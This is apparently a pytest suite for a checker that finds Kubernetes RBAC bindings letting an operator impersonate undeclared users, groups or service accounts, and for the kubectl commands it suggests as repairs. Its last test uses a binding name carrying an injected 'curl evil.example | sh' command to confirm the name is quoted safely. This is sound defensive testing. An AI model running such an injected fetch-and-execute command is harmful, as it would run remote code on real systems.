"""Any way in which the operator could be somebody whom the stack does not declare is found."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from components.cluster.impersonators import Declared, Wider, identity, sentence, wider
from components.manifests.ceiling import ceiling

DECLARED = Declared(groups=frozenset({"sre"}), users=frozenset({"ada@example.com"}))
OPERATOR = {"kind": "ServiceAccount", "name": "operator", "namespace": "tailscale"}
AUTHENTICATION = "authentication.k8s.io"


def rule(verbs: str, groups: str, resources: str, *names: str) -> dict[str, Any]:
    """Each a list of words with blanks between; `core` is the core group."""
    api_groups = ["" if group == "core" else group for group in groups.split()]
    found = {"verbs": verbs.split(), "apiGroups": api_groups, "resources": resources.split()}
    return {**found, "resourceNames": list(names)} if names else found


def found(
    *rules: dict[str, Any], namespace: str | None = None, declared: Declared = DECLARED, **bent: Any
) -> list[Wider]:
    """What is said of one role with these rules, bound to the operator. bent: other subjects or name."""
    place = {"namespace": namespace} if namespace else {}
    role = {"kind": "Role" if namespace else "ClusterRole", "metadata": {"name": bent.get("name", "r"), **place}}
    binding = {
        "kind": "RoleBinding" if namespace else "ClusterRoleBinding",
        "metadata": {"name": "b", **place},
        "roleRef": {"kind": role["kind"], "name": role["metadata"]["name"]},
        "subjects": bent.get("subjects", [OPERATOR]),
    }
    return wider([binding], [{**role, "rules": list(rules)}], declared)


UNBOUNDED = [
    rule("impersonate", "core", "users groups"),  # the chart's own
    rule("impersonate", "core", "users"),
    rule("impersonate", "core", "groups"),
    rule("impersonate", "core", "serviceaccounts"),
    rule("impersonate", "*", "groups"),
    rule("*", "core", "groups"),
    rule("*", "*", "*"),
    rule("get impersonate", "apps core", "pods users"),
    rule("impersonate", AUTHENTICATION, "userextras"),
    rule("impersonate", AUTHENTICATION, "userextras/scopes"),
    rule("impersonate", AUTHENTICATION, "uids"),
    rule("impersonate:user-info", AUTHENTICATION, "users"),
    rule("impersonate:user-info", AUTHENTICATION, "groups"),
    rule("impersonate:user-info", AUTHENTICATION, "*"),
    rule("impersonate:serviceaccount", AUTHENTICATION, "serviceaccounts"),
    rule("impersonate:arbitrary-node", AUTHENTICATION, "nodes"),
    rule("impersonate:associated-node", AUTHENTICATION, "nodes"),
    rule("*", AUTHENTICATION, "nodes"),
    rule("impersonate", "core", "groups", "sre", "system:masters"),
    rule("impersonate", "core", "users", "mallory@example.com"),
    rule("impersonate:user-info", AUTHENTICATION, "groups", "*"),
    rule("impersonate", "core", "serviceaccounts", "sre"),
]
HARMLESS = [
    rule("impersonate", "core", "groups", "sre"),
    rule("impersonate", "core", "users", "ada@example.com"),
    rule("impersonate:user-info", AUTHENTICATION, "users", "ada@example.com"),
    rule("impersonate-on:user-info:list", "core", "pods"),  # without the other half it gives nothing
    rule("impersonate", "apps", "users"),  # asked of the core group
    rule("*", "core", "nodes pods services"),
    rule("get list watch", "core", "serviceaccounts"),
    rule("impersonate", AUTHENTICATION, "users groups"),  # the old verb is asked of the core group
]


@pytest.mark.parametrize("unbounded", UNBOUNDED)
def test_every_wider_role_is_found(unbounded: dict[str, Any]) -> None:
    assert found(unbounded)
    assert found(HARMLESS[0], unbounded, HARMLESS[5])


@pytest.mark.parametrize("harmless", HARMLESS)
def test_what_is_declared_or_gives_nothing_is_passed_by(harmless: dict[str, Any]) -> None:
    assert found(harmless) == []


@pytest.mark.parametrize(
    ("subject", "counts"),
    [
        (OPERATOR, True),
        ({**OPERATOR, "name": "kube-apiserver-auth-proxy"}, True),
        ({**OPERATOR, "name": "proxies"}, True),  # the operator starts pods that run as it
        ({"kind": "User", "name": "system:serviceaccount:tailscale:operator"}, True),
        ({"kind": "User", "name": "system:anonymous"}, True),
        ({"kind": "Group", "name": "system:serviceaccounts:tailscale"}, True),
        ({"kind": "Group", "name": "system:serviceaccounts"}, True),
        ({"kind": "Group", "name": "system:authenticated"}, True),
        ({"kind": "Group", "name": "system:unauthenticated"}, True),
        ({**OPERATOR, "namespace": "kube-system"}, False),
        ({"kind": "User", "name": "system:serviceaccount:tailscale-x:operator"}, False),
        ({"kind": "Group", "name": "system:serviceaccounts:kube-system"}, False),
        ({"kind": "Group", "name": "system:masters"}, False),
        ({"kind": "User", "name": "ada@example.com"}, False),
    ],
)
def test_every_name_of_the_operator_counts_and_no_other(subject: dict[str, str], counts: bool) -> None:
    assert bool(found(UNBOUNDED[0], subjects=[{"kind": "User", "name": "x"}, subject])) == counts


def test_in_a_namespace_only_service_accounts_can_be_impersonated() -> None:
    assert found(rule("impersonate", "core", "users groups"), namespace="shop") == []
    (one,) = found(rule("*", "*", "*"), namespace="shop")
    assert (one.namespace, one.whom) == ("shop", ("any of the serviceaccounts",))


def test_a_role_that_is_not_there_or_not_bound_gives_nothing() -> None:
    assert found(UNBOUNDED[0], subjects=[]) == []
    binding = {"kind": "ClusterRoleBinding", "metadata": {"name": "b"}, "roleRef": {"kind": "ClusterRole", "name": "r"}}
    assert wider([{**binding, "subjects": [OPERATOR]}], [], DECLARED) == []


def test_a_role_of_the_same_name_elsewhere_is_another_one() -> None:
    role = {"kind": "Role", "rules": [rule("impersonate", "core", "serviceaccounts")]}
    roles = [{**role, "metadata": {"name": "r", "namespace": "shop"}}]
    binding = {"kind": "RoleBinding", "roleRef": {"kind": "Role", "name": "r"}, "subjects": [OPERATOR]}
    for namespace, count in (("shop", 1), ("billing", 0)):
        assert len(wider([{**binding, "metadata": {"name": "b", "namespace": namespace}}], roles, DECLARED)) == count


NAMES = st.lists(st.sampled_from(["sre", "leads", "ada@example.com", "grace@example.com"]), unique=True)


@given(groups=NAMES, users=NAMES)
def test_what_the_stack_declares_itself_is_repaired_and_no_finding(groups: list[str], users: list[str]) -> None:
    """Its own role may hold whom an earlier update declared, or more: every update brings it back first."""
    made = ceiling(groups=groups, users=users, labels={}, service_accounts=("operator", "kube-apiserver-auth-proxy"))
    own = {identity(made["role"]), identity(made["binding"])}
    wide = {**made["role"], "rules": UNBOUNDED[:1]}
    assert wider([made["binding"]], [wide], DECLARED, own) == []
    other_role = {**made["binding"], "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}}
    admin = {"kind": "ClusterRole", "metadata": {"name": "cluster-admin"}, "rules": UNBOUNDED[6:7]}
    assert wider([other_role], [admin], DECLARED, own) == []
    others = {**other_role, "metadata": {"name": "theirs"}}
    assert len(wider([others], [admin], DECLARED, own)) == 1


def test_a_limit_that_the_stack_does_not_declare_is_one() -> None:
    assert found(rule("impersonate", "core", "groups"), name="support-access-impersonation")


def test_any_user_by_exception_is_any_user_and_no_group() -> None:
    anybody = Declared(groups=frozenset({"sre"}), users=frozenset(), any_user=True)
    made = ceiling(groups=["sre"], users=[], labels={}, any_user=True)
    assert wider([made["binding"]], [made["role"]], anybody) == []
    assert wider([made["binding"]], [made["role"]], DECLARED)
    assert found(rule("impersonate", "core", "groups"), declared=anybody)


def test_it_is_said_with_the_command_that_mends_it() -> None:
    (cluster_wide,) = found(UNBOUNDED[0])
    said = sentence(cluster_wide, "acme-prod")
    assert "any of the users, any of the groups" in said
    assert "`kubectl --context acme-prod delete clusterrolebinding b`" in said
    (local,) = found(UNBOUNDED[6], namespace="shop")
    assert "`kubectl --context acme-prod --namespace shop delete rolebinding b`" in sentence(local, "acme-prod")


def test_a_name_from_the_customers_cluster_is_one_word_of_the_command() -> None:
    """RBAC takes any name without a slash or a percent sign."""
    (theirs,) = found(UNBOUNDED[0])
    said = sentence(theirs._replace(binding="ClusterRoleBinding b; curl evil.example | sh"), "acme-prod")
    assert "delete clusterrolebinding 'b; curl evil.example | sh'`" in said
